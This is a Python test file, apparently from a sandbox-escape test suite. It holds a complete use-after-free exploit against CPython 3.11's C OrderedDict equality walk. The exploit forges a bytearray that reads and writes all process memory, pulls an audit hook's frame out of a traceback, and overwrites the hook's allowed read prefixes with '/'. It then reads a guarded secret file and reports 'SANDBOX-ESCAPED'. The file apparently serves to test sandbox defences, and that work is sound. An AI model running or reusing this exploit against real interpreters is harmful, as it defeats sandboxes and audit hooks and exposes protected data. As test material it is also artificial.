# expect: ok
# expect-kernel: ok|crashed|memory_limit
# value: 1
# `==` of two C OrderedDicts (`_collections`, CPython 3.11; gh-119004, fixed in 3.12 and later only) compares their
# keys in order by walking both linked lists of nodes, and reads a node's `next` after the keys' `__eq__` (Python code
# of the code's own) has run: an `__eq__` that clears the first OrderedDict frees its nodes under the walk, and
# bytearray buffers of the node's size take the freed blocks, each a node whose `next` is a node of the code's own
# (in a bytes object, whose address `id()` gives) holding a forged bytearray header as its key (size 2**62, data at
# address 0). The walk compares that key with the other OrderedDict's next key, a bytearray subclass whose `__eq__`
# is asked first: it is handed the forged bytearray, which reads and writes all memory, with no audit event. From
# there the hook's frozen read prefixes (the frame of a refusal it makes unreported hands them out) gain "/", and the
# secret file is read where the hook is what guards it. `repr`, `copy`, `pop` and `popitem` walk or unlink nodes
# across the code's own code alike. With the hook those compare, print, copy and pop through what keeps no node across
# such code (1); without it native code is assumed anyway (the forged bytearray, or a crash: 1).
import os
from collections import OrderedDict

HELD, HANDED = [], []  # the refilled blocks and what the walk handed over, kept for good


def words(*values):
    return b"".join(value.to_bytes(8, "little") for value in values)


FORGED = words(1 << 20, id(bytearray), 1 << 62, (1 << 62) + 1, 0, 0, 0)  # refcount, type, size, room, data, start
NODE = words(id(FORGED) + 32, 0, 0, 0)  # a node whose key is the forged header (key, hash, next, prev)
REFILL = words(0, 0, id(NODE) + 32, 0)[:31]  # a freed node's block, refilled: its next is that node


class Key:
    calls = 0

    def __init__(self, number):
        self.number = number

    def __hash__(self):
        return self.number

    def __eq__(self, other):
        Key.calls += 1
        if Key.calls == 3:  # the first compare of the keys' walk (two came from the dicts' own comparison)
            FIRST.clear()
            HELD.extend(bytearray(REFILL) for _ in range(64))
        return True


class Catch(bytearray):
    """The other OrderedDict's second key: its `__eq__` is asked first, and handed what the walk compares."""

    def __hash__(self):
        return 1

    def __eq__(self, other):
        HANDED.append(other)
        return True


FIRST = OrderedDict((Key(number), number) for number in range(3))
SECOND = OrderedDict(((Key(0), 0), (Catch(b"c"), 1), (Key(2), 2)))


def window():
    HANDED.clear()
    FIRST == SECOND  # noqa: B015
    for handed in HANDED:
        if type(handed) is bytearray and len(handed) == 1 << 62:
            return handed
    return None


def hook_frame():
    """The hook's frame, from a refusal it makes without a report (a hard link in the scratch)."""
    with open("a", "w"):
        pass
    try:
        os.link("a", "b")
    except OSError as exc:
        tb = exc.__traceback__
        while tb is not None:
            if tb.tb_frame.f_code.co_name == "hook":
                return tb.tb_frame
            tb = tb.tb_next
    return None


def check(secret_file, **p):
    frame = hook_frame()
    memory = window()
    if memory is None or frame is None:  # no hook here: native code is assumed anyway
        return 1
    prefixes, root = frame.f_locals["read_prefixes"], "/"
    memory[id(prefixes) + 24:id(prefixes) + 32] = id(root).to_bytes(8, "little")  # the prefixes' first item
    try:
        with open(secret_file) as fh:
            return "SANDBOX-ESCAPED an OrderedDict node freed while it compares: " + fh.read()
    except OSError:
        return "SANDBOX-ESCAPED raw memory with the hook running, through an OrderedDict node freed while it compares"
